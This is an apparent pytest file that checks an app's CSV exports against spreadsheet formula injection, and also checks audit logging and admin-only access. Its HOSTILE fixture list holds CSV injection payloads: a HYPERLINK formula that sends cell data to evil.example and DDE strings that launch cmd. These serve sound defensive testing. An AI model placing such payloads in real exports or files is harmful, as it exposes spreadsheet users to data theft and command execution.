"""CSV exports cannot carry a spreadsheet formula (OWASP "CSV Injection"), every CSV we
write goes through the one helper, and every export is in the audit log."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from doorstep.cli.main import app as cli
from doorstep.exports import BOM, RESPONSE_COLUMNS, csv_lines, safe_cell

SRC = Path(__file__).resolve().parents[2] / "src" / "doorstep"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_made_text(text):
    assert safe_cell(text) == "'" + text


def test_ordinary_values_are_left_alone():
    assert safe_cell("汤洒了 = bad") == "汤洒了 = bad"
    assert safe_cell("it was late - again") == "it was late - again"
    assert safe_cell(-0.5) == -0.5 and safe_cell(7) == 7  # our own numbers are values, not text
    assert safe_cell(None) == ""
    assert safe_cell(dt.datetime(2026, 3, 2, 9, tzinfo=dt.UTC)) == "2026-03-02T09:00:00+00:00"


def test_the_csv_round_trips_with_every_hostile_cell_neutralised():
    text = "".join(csv_lines(["comment", "n"], [(h, i) for i, h in enumerate(HOSTILE)]))
    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))
    assert rows[0] == ["comment", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]


def test_every_csv_we_write_goes_through_the_helper():
    """A new export that calls csv.writer itself would skip the protection."""
    offenders = [str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
                 if p.name != "exports.py" and re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
    assert offenders == []


def hostile_answers(client, workspace, clock) -> None:
    for i, comment in enumerate(HOSTILE):
        body = {"external_id": f"=F-{i}" if i == 0 else f"F-{i}", "customer_id": "@c-1" if i == 0 else f"c-{i}",
                "delivered_at": (clock.now - dt.timedelta(minutes=15)).isoformat()}
        response = client.post("/api/v1/deliveries", json=body, headers=workspace.headers)
        assert response.status_code == 200, response.text
        token = response.json()["invitations"][0]["token"]
        assert client.post(f"/s/{token}", data={"score": str(i), "comment": comment}).status_code == 200


def check_neutralised(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, value in row.items():
            if re.fullmatch(r"-?\d+(\.\d+)?", value):
                continue  # a number (a negative sentiment): a value to a spreadsheet, not a formula
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    # The surveys strip surrounding white space, so the tab and CR cases arrive as "=1+1".
    assert sorted(r["comment"] for r in rows) == sorted("'" + h.strip() for h in HOSTILE)
    assert {r["delivery_external_id"] for r in rows} >= {"'=F-0"}
    assert {r["customer_external_id"] for r in rows} >= {"'@c-1"}
    return rows


def test_the_api_export_is_safe_and_audited(client, workspace, clock):
    hostile_answers(client, workspace, clock)
    response = client.get("/api/v1/exports/responses.csv", headers=workspace.headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = check_neutralised(response.text)
    assert list(rows[0]) == list(RESPONSE_COLUMNS)

    [entry] = client.get("/api/v1/audit", params={"action": "export"}, headers=workspace.headers).json()["entries"]
    assert (entry["actor_kind"], entry["target"], entry["details"]["rows"]) == ("key", "responses", len(HOSTILE))
    assert entry["client"] == "testclient"


def test_the_cli_export_is_safe_and_audited(client, workspace, clock, database_url, tmp_path):
    hostile_answers(client, workspace, clock)
    out = tmp_path / "answers.csv"
    runner = CliRunner()
    done = runner.invoke(cli, ["--db", database_url, "export", "responses", "--out", str(out)])
    assert done.exit_code == 0, (done.stdout, done.stderr)
    check_neutralised(out.read_text(encoding="utf-8"))
    to_stdout = runner.invoke(cli, ["--db", database_url, "export", "responses"])
    check_neutralised(to_stdout.stdout)

    listed = runner.invoke(cli, ["--db", database_url, "audit", "--json", "--action", "export"])
    entries = json.loads(listed.stdout)["entries"]
    assert [(e["actor_kind"], e["details"]["rows"]) for e in entries] == [("cli", 6), ("cli", 6)]
    assert entries[1]["details"]["file"] == "answers.csv"


def test_exports_and_the_audit_log_are_for_admins_only(client, database, workspace):
    from doorstep.accounts.services import create_api_key, get_workspace

    with database.write() as session:
        ws = get_workspace(session=session, slug=workspace.slug)
        _key, secret = create_api_key(session=session, workspace=ws, role="cs")
    headers = {"Authorization": f"Bearer {secret}"}
    for path in ("/api/v1/exports/responses.csv", "/api/v1/audit", "/api/v1/customers/c-1/export"):
        assert client.get(path, headers=headers).status_code == 403, path
    assert client.post("/api/v1/customers/c-1/erase", headers=headers).status_code == 403
